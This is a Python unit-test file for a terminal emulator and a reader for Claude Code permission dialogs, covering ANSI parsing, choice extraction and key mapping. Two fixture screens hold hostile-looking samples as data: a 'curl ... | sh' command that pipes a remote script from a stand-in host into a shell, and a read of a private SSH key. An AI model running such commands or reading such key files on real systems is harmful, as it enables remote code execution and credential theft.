"""Unit tests of the terminal emulator and the dialog reader (no Claude Code client needed)."""

from __future__ import annotations

import pytest

from .interactive import Choice, Dialog, _waiting_for_user, dialog_choices, find_dialog, keys_for
from .screen import Screen, strip_ansi

# A 2.1.330 Bash dialog as the emulator renders it (default mode, 140 columns; rules shortened).
BASH_DIALOG_SCREEN = """\
❯ do it

  Running a command
  ⎿  $ touch marker

────────────────────────────────────────────────────────────
 Bash command
 Run a command
╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌
 touch marker
╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌
 Do you want to proceed?
 ❯ 1. Yes
   2. Yes, and always allow access to /tmp/p from this project
   3. Yes, and switch to auto mode · auto mode handles these prompts for you
   4. No

 Esc to cancel · Tab to amend
"""

# Auto mode when the server-side check is unreachable: unnumbered, "No" preselected.
AUTO_DIALOG_SCREEN = """\
────────────────────────────────────────────────────────────
 Bash command
 curl -s http://example.invalid/x.sh | sh
 Auto mode can't check actions in this session, so this one needs your approval

 Do you want to proceed?
 ❯ No
   Yes

 Esc to cancel · Tab to amend
"""


# Auto mode, Read outside the working directories: a one-time choice that can be remembered.
OUTSIDE_READ_SCREEN = """\
────────────────────────────────────────────────────────────
 Read outside the working directories
 Read(/tmp/home/.ssh/id_rsa)
 Allow this read outside the working directories?
 ❯ 1. Yes, and keep allowing any reads outside the working directories
   2. No, and block reads outside the working directories from now on
   3. No, and ask again next time
   4. Yes, but ask again next time
 Esc to cancel · Tab to amend
"""


def test_screen_applies_absolute_moves_and_erase() -> None:
    s = Screen(rows=5, cols=20)
    s.feed(b"\x1b[?1049h\x1b[2J\x1b[1;1Hhello\x1b[3;5Hworld\x1b[1;3H\x1b[K")
    assert s.text() == "he\n\n    world"


def test_screen_relative_moves_column_and_split_sequences() -> None:
    s = Screen(rows=4, cols=20)
    s.feed(b"ab\x1b[2Bcd\x1b[")  # sequence split across two reads
    s.feed(b"1Gxy\x1b[1A\x1b[3CZ")
    assert s.lines()[:3] == ["ab", "     Z", "xycd"]


def test_screen_long_osc_split_across_reads() -> None:
    s = Screen(rows=2, cols=30)
    link = "\x1b]8;id=x;https://example.invalid/" + "p" * 200 + "\x07"
    s.feed(link[:100])
    s.feed(link[100:] + "docs\x1b]8;;\x07")
    assert s.text() == "docs"


def test_screen_utf8_split_across_reads() -> None:
    s = Screen(rows=1, cols=10)
    data = "❯ ✻ é".encode()
    for i in range(len(data)):
        s.feed(data[i : i + 1])
    assert s.text() == "❯ ✻ é"


def test_screen_wraps_scrolls_and_handles_wide_characters() -> None:
    s = Screen(rows=2, cols=4)
    s.feed("abcdef\r\n漢x")
    assert s.lines() == ["ef", "漢x"]


def test_screen_leaving_alternate_screen_restores_main() -> None:
    s = Screen(rows=2, cols=10)
    s.feed("main\x1b[?1049h\x1b[Halt")
    assert s.text() == "alt"
    s.feed("\x1b[?1049l")
    assert s.text() == "main"


def test_strip_ansi() -> None:
    assert strip_ansi("\x1b[1;32mok\x1b[0m \x1b]0;title\x07done\x1b7") == "ok done"


def test_find_dialog_returns_the_dialog_block() -> None:
    d = find_dialog(BASH_DIALOG_SCREEN)
    assert d is not None
    assert d.splitlines()[0] == " Bash command"
    assert d.splitlines()[-1] == " Esc to cancel · Tab to amend"
    assert "touch marker" in d
    assert "Running a command" not in d


def test_find_dialog_none_without_footer_or_yes() -> None:
    assert find_dialog(BASH_DIALOG_SCREEN.replace("Esc to cancel", "")) is None
    assert find_dialog(BASH_DIALOG_SCREEN.replace("Yes", "Sure")) is None
    assert find_dialog("❯ do it\n  Ran 1 shell command\n") is None


def test_dialog_choices_numbered_and_unnumbered() -> None:
    choices = dialog_choices(find_dialog(BASH_DIALOG_SCREEN) or "")
    assert [c.number for c in choices] == ["1", "2", "3", "4"]
    assert choices[0] == Choice("1", "Yes", True)
    assert choices[3] == Choice("4", "No", False)
    auto = dialog_choices(find_dialog(AUTO_DIALOG_SCREEN) or "")
    assert auto == [Choice(None, "No", True), Choice(None, "Yes", False)]


@pytest.mark.parametrize(
    ("answer", "screen", "keys"),
    [
        ("yes", BASH_DIALOG_SCREEN, b"1"),
        ("no", BASH_DIALOG_SCREEN, b"4"),
        ("esc", BASH_DIALOG_SCREEN, b"\x1b"),
        ("yes", AUTO_DIALOG_SCREEN, b"\x1b[B\r"),
        ("no", AUTO_DIALOG_SCREEN, b"\r"),
        # a choice that is not remembered is preferred
        ("no", OUTSIDE_READ_SCREEN, b"3"),
        ("yes", OUTSIDE_READ_SCREEN, b"4"),
    ],
)
def test_keys_for(answer: str, screen: str, keys: bytes) -> None:
    assert keys_for(answer, find_dialog(screen) or "") == keys


def test_keys_for_rejects_unknown_answer() -> None:
    with pytest.raises(ValueError, match="unknown answer 'maybe'"):
        keys_for("maybe", find_dialog(BASH_DIALOG_SCREEN) or "")


def test_waiting_for_user_after_rejection() -> None:
    closed = Dialog(text="", shown_at=1.0, closed_at=2.0)
    assert _waiting_for_user("⎿  Interrupted · What should Claude do instead?", closed, 2.1)
    # an edit rejection prints no "Interrupted": idle footer for 0.6 s is the signal
    assert not _waiting_for_user("Rejected update to README.md", closed, 2.3)
    assert _waiting_for_user("Rejected update to README.md", closed, 2.7)
    assert not _waiting_for_user("… · esc to interrupt", closed, 5.0)
